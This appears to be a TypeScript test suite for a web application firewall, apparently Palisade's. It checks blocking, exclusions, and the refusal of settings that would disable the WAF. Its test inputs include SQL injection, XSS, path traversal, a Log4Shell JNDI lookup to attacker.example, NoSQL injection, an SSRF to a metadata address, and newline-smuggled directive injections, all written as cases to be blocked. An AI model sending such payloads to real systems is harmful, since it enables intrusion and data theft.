import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { WafSettings } from '../engine/types.js'
import { createWaf, evaluateRequest } from '../engine/waf.js'
import { WafConfigError } from '../errors.js'
import { baselineRuleSet, crsSetupText, DEFAULT_WAF_SETTINGS } from './setup.js'

const settings = (over: Partial<WafSettings> = {}): WafSettings => ({ ...DEFAULT_WAF_SETTINGS, ...over })
const get = (uri: string, headers: Array<[string, string]> = []) => ({
  method: 'GET',
  uri,
  protocol: 'HTTP/1.1',
  headers: [['Host', 'example.com'] as [string, string], ...headers],
  remoteAddr: '192.0.2.1',
})

test('the generated set-up blocks in anomaly mode and has no detection-only path', () => {
  const text = crsSetupText(settings({ paranoia: 3, inboundThreshold: 7 }))
  assert.match(text, /^SecRuleEngine On$/m)
  assert.doesNotMatch(text, /DetectionOnly|SecRuleEngine Off/)
  assert.match(text, /tx\.paranoia_level=3/)
  assert.match(text, /tx\.inbound_anomaly_score_threshold=7/)
  assert.match(text, /tx\.allowed_methods=GET HEAD POST PUT PATCH DELETE OPTIONS/)
  assert.match(text, /\|application\/json\|/)
  assert.match(text, /ctl:requestBodyProcessor=JSON/)
})

test('the baseline rules block SQL injection, XSS and traversal and pass benign requests', () => {
  const waf = createWaf(baselineRuleSet(settings()))
  assert.equal(evaluateRequest(waf, get('/products?page=2&q=red+shoes')).action, 'allow')
  for (const attack of [
    "/?id=1'%20OR%20'1'='1",
    '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/?f=../../etc/passwd',
  ]) {
    const v = evaluateRequest(waf, get(attack))
    assert.equal(v.action, 'block', attack)
    assert.equal(v.interruption?.ruleId, 949110)
    assert.equal(v.interruption?.status, 403)
  }
})

test('the baseline rules include Palisade’s rule set (Log4Shell, NoSQL, SSRF without CRS installed)', () => {
  const waf = createWaf(baselineRuleSet(settings()))
  for (const [uri, headers] of [
    ['/', [['User-Agent', '${jndi:ldap://attacker.example/a}']]],
    ['/login?user[$ne]=x&password[$ne]=x', []],
    ['/fetch?url=http://169.254.169.254/latest/meta-data/', []],
  ] as Array<[string, Array<[string, string]>]>) {
    const v = evaluateRequest(waf, get(uri, headers))
    assert.equal(v.action, 'block', uri)
    assert.equal(v.interruption?.ruleId, 9509110, uri)
  }
  assert.equal(evaluateRequest(waf, get('/fetch?url=https://example.com/feed.xml')).action, 'allow')
  assert.equal(refused({ exclusions: [{ ruleId: 9509110 }] }), 'PAL_WAF_SETTINGS_INVALID')
})

test('a disallowed method is blocked by policy', () => {
  const waf = createWaf(baselineRuleSet(settings({ allowedMethods: ['GET'] })))
  assert.equal(evaluateRequest(waf, { ...get('/'), method: 'DELETE' }).action, 'block')
})

test('exclusions by id, tag and target apply', () => {
  const sqli = "/?id=1'%20OR%20'1'='1"
  assert.equal(
    evaluateRequest(createWaf(baselineRuleSet(settings({ exclusions: [{ ruleId: 942100 }] }))), get(sqli))
      .action,
    'allow',
  )
  assert.equal(
    evaluateRequest(createWaf(baselineRuleSet(settings({ exclusions: [{ tag: 'attack-sqli' }] }))), get(sqli))
      .action,
    'allow',
  )
  const byTarget = createWaf(
    baselineRuleSet(settings({ exclusions: [{ ruleId: 942100, target: 'ARGS:id' }] })),
  )
  assert.equal(evaluateRequest(byTarget, get(sqli)).action, 'allow')
  assert.equal(evaluateRequest(byTarget, get(sqli.replace('id=', 'other='))).action, 'block')
})

function refused(over: Partial<WafSettings>): string {
  try {
    baselineRuleSet(settings(over))
  } catch (e) {
    assert.ok(e instanceof WafConfigError)
    return e.code
  }
  return assert.fail('expected the settings to be refused')
}

test('settings that would turn the WAF off are refused', () => {
  assert.equal(refused({ exclusions: [{ ruleId: 949110 }] }), 'PAL_WAF_SETTINGS_INVALID')
  assert.equal(refused({ exclusions: [{ ruleId: [900000, 999999] }] }), 'PAL_WAF_SETTINGS_INVALID')
  assert.equal(refused({ exclusions: [{ tag: 'palisade-baseline' }] }), 'PAL_WAF_EXCLUSION_DISABLES_WAF')
  assert.equal(refused({ inboundThreshold: 100000 }), 'PAL_WAF_SETTINGS_INVALID')
  assert.equal(refused({ paranoia: 0 as 1 }), 'PAL_WAF_SETTINGS_INVALID')
})

test('malformed settings are refused before any SecLang is generated (directive injection)', () => {
  assert.equal(refused({ allowedMethods: ['GET"\nSecRuleEngine Off'] }), 'PAL_WAF_SETTINGS_INVALID')
  assert.equal(
    refused({ exclusions: [{ ruleId: 942100, target: 'ARGS:x"\nSecRuleEngine Off' }] }),
    'PAL_WAF_SETTINGS_INVALID',
  )
  assert.equal(refused({ exclusions: [{ ruleId: 942100, target: 'NOPE:x' }] }), 'PAL_WAF_SETTINGS_INVALID')
  assert.equal(refused({ allowedContentTypes: ['text/html|'] }), 'PAL_WAF_SETTINGS_INVALID')
})
